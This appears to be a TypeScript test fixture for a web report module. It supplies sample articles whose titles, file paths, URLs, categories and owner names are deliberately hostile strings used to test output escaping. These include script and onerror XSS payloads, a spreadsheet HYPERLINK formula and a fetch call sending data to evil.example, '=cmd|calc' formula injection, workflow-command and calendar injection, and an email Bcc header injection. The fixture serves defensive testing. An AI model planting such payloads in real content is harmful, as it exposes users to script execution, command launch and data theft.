// Articles that no team would write but some attacker might: titles, file names, URLs and owners that formats must
// handle.
import type { Owner, ReportedArticle, UnownedArticle } from '../../../src/web/report/report.ts'

const LONG_WORD = 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerk'.repeat(6)

/** Titles with a special meaning in HTML, Markdown, spreadsheets, workflow commands, calendars or terminals. */
export const HOSTILE_TITLES = [
  '<script>document.body.textContent = "owned"</script>',
  `"><img src=x onerror="fetch('//evil.example')"> & 'so' on`,
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '+1+1|cmd',
  '@SUM(1)*2, with; everything: in\\it "quoted"',
  '-2+3',
  '\t=1+1 behind a tab',
  '[click](javascript:alert(1)) **bold** | cell `code` <!-- @everyone #1 -->',
  '::error file=a.md,line=1::injected%0Awith %25 percent',
  'END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:another',
  'Turned \u202e around \u2066 and \u001b[31mred\u001b[0m \u0007 \u0000 end',
  '</script><!--</style></title>',
  'Ihre Rechnung 🧾 bezahlen · 请款 · دفع الفاتورة',
  '👨‍👩‍👧‍👦 é (combining) ﬁ ligature',
  LONG_WORD,
  '',
] as const

/** `index` determines title, language, categories and file. */
export function sampleArticle(index: number, changes: Partial<ReportedArticle> = {}): ReportedArticle {
  const file = FILES[index % FILES.length]
  return {
    id: `0190a000-0000-7000-8000-${String(index).padStart(12, '0')}`,
    title: titleAt(index),
    isDraft: index % 5 === 3,
    language: ['en', 'de', 'ar', 'zh-Hant'][index % 4] ?? 'en',
    file: file === undefined ? `content/guides/article-${index}.md` : file,
    url: index % 7 === 6 ? '/articles/"><script>alert(1)</script>' : `/articles/article-${index}`,
    categories: CATEGORIES[index % CATEGORIES.length] ?? [],
    ...changes,
  }
}

/** Every second one is plain. */
function titleAt(index: number): string {
  const hostile = HOSTILE_TITLES[Math.floor(index / 2) % HOSTILE_TITLES.length] ?? ''
  return index % 2 === 0 ? `Set up account ${index}` : hostile
}

const FILES: readonly (string | undefined)[] = [
  undefined,
  undefined,
  'content/has space/ünï #1?.md',
  undefined,
  'content/=cmd|calc/@file.md',
  undefined,
  'content/a & <b> "c"/100%/index.md',
  undefined,
  'content/very/deep/folders/that/go/on/and/on/until/no/terminal/can/show/them/whole/getting-started.md',
  undefined,
  'content/guides/[x](y)|`z`.md',
]

const CATEGORIES: readonly (readonly string[])[] = [
  ['Guides/Accounts'],
  ['Guides/Accounts', 'Billing'],
  ['<b>Odd</b> & | "names"'],
  ['=Formulas/@here'],
  ['Guides'],
]

/** By the index of the article. A person has an email address only on request. */
export function sampleOwners(index: number, showsEmail: boolean): readonly Owner[] {
  const owner = OWNERS[index % OWNERS.length]
  if (owner === undefined) return []
  const { name, email } = owner
  const others: readonly Owner[] = index % 4 === 0 ? [{ name: '@docs-team' }] : []
  return [showsEmail && email !== undefined ? { name, email } : { name }, ...others]
}

const OWNERS: readonly (Owner | undefined)[] = [
  { name: 'Ada Lovelace', email: 'ada@example.org' },
  { name: '=cmd|"/c calc"!A1 <b>', email: '"x\r\nBcc: y"@example.org' },
  undefined,
  { name: 'محمد \u202eevil', email: 'm?subject=x&body="<script>"@example.org' },
]

/** An article on the target without a file. */
export function sampleUnowned(index: number): UnownedArticle {
  const { id, title, isDraft, language } = sampleArticle(index)
  return { kind: index % 2 === 0 ? 'foreign' : 'orphan', id: `x-${id}`, title, isDraft, language }
}
